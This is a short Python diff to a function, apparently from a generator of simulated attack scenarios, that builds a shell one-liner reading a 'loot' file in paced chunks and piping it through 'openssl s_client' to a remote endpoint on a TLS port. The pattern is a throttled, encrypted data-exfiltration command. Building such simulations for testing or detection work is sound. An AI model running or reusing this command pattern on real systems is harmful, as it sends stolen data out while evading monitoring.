@@ -242,7 +242,9 @@ def openssl_stream(chance, world):
     theft = _Theft(chance, world)
     port = chance.choice((443, 465, 993))
     paced = f"i=0; while [ $i -lt {max(5, theft.size * 2 // theft.rate)} ]; do head -c {theft.rate // 2} {_LOOT};"
-    paced += f" sleep 0.5; i=$((i + 1)); done | openssl s_client -quiet -no_ign_eof -connect {theft.end}:{port}"
+    paced += (
+        f" sleep 0.5; i=$((i + 1)); done | openssl s_client -quiet -no_ign_eof -nocommands -connect {theft.end}:{port}"
+    )
     steps = (
         listener(world, "tls", theft.end, port, "--answer", "0-0"),
         theft.loot(),
